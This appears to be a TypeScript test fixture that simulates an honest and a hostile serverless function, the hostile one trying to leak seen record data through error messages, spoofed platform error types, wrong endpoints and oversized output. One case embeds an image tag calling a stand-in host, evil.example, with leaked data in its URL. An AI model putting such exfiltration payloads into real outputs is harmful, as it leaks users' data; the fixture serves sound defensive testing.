import type { RegisteredVersion } from '../../../core/model/catalogue-entry.ts';
import type { Json } from '../../../core/model/json.ts';
import type { Random } from '../../../local/sample/random.ts';

/** How a call of `process` ends, as far as it decides what happens next. */
export const ENDINGS = ['derived', 'derived nothing', 'failed'] as const;
export type Ending = (typeof ENDINGS)[number];

/** What a call of a function comes to: an answer, or what Lambda says in its stead. */
export type Answer = { readonly payload: Json } | { readonly error: Json };

export interface Given {
  readonly recordId: string;
  readonly data: Json;
}

/** What an honest function does: something of each record, as large as the record. */
export function honest({ scope }: RegisteredVersion, ending: Ending, given: readonly Given[]): Answer {
  const { namespace, endpoint } = scope;
  if (ending === 'failed') return { error: { errorType: 'Error', errorMessage: JSON.stringify(given) } };
  const data = ending === 'derived' ? [{ summary: given.length }, ...given.map((one) => one.data)] : [];
  return { payload: [{ namespace, endpoint, data, linkedRecords: [] }] };
}

type Response = (data: readonly Json[], change?: object) => Json;

interface Seen {
  readonly given: readonly Given[];
  /** Decides by what it saw. */
  readonly seen: Random;
  /** Whether it may say that its time is over: that is a matter of how long it takes. */
  readonly mayTimeOut: boolean;
}

/** What a function does that wants to get out what it has seen: everything it can choose, it chooses by that. */
export function hostile(
  { scope }: RegisteredVersion,
  ending: Ending,
  { given, seen, mayTimeOut }: Seen,
): Answer {
  const { namespace, endpoint, allowSubpaths } = scope;
  const told = JSON.stringify(given).slice(0, seen.between(0, 400));
  const response: Response = (data, change = {}) =>
    ({ namespace, endpoint, data, linkedRecords: [], ...change }) as Json;
  if (ending === 'failed') return failing(seen, told, { response, mayTimeOut });
  if (ending === 'derived nothing')
    return { payload: Array.from({ length: seen.between(0, 3) }, () => response([])) };
  const place = allowSubpaths && seen.chance(0.5) ? `${endpoint}/${seen.between(0, 15)}` : endpoint;
  const linkedRecords = given.filter(() => seen.chance(0.3)).map(({ recordId }) => recordId);
  const records = (most: number): Json[] =>
    Array.from({ length: seen.between(1, most) }, () => ({ told: seen.chance(0.5) ? told : given.length }));
  const responses = Array.from({ length: seen.between(1, 3) }, () => response(records(3)));
  return { payload: [response(records(9), { endpoint: place, linkedRecords }), ...responses] };
}

/** Each of these is a code of its own, and some are what the platform says of itself, said by the function. */
function failing(
  seen: Random,
  told: string,
  { response, mayTimeOut }: Pick<Seen, 'mayTimeOut'> & { response: Response },
): Answer {
  const timeOut = () => ({ error: { errorType: 'Sandbox.Timedout', errorMessage: told } });
  return seen.pick<() => Answer>([
    () => ({ error: { errorType: told, errorMessage: told } }),
    () => ({ error: { errorType: 'Runtime.ExitError', errorMessage: told } }),
    ...(mayTimeOut ? [timeOut] : []),
    () => ({ error: { errorType: 'Function.ResponseSizeTooLarge', errorMessage: told } }),
    () => ({ payload: { told } }),
    () => ({ payload: [response([{ told }], { endpoint: 'elsewhere' })] }),
    () => ({ payload: [response([{ told: `<img src="https://evil.example/${told}">` }])] }),
    () => ({ payload: [response([{ told, isAgainstTheSchema: true }])] }),
    () => ({ payload: [response([deep(40)])] }),
  ])();
}

const deep = (levels: number): Json => (levels === 0 ? 0 : [deep(levels - 1)]);
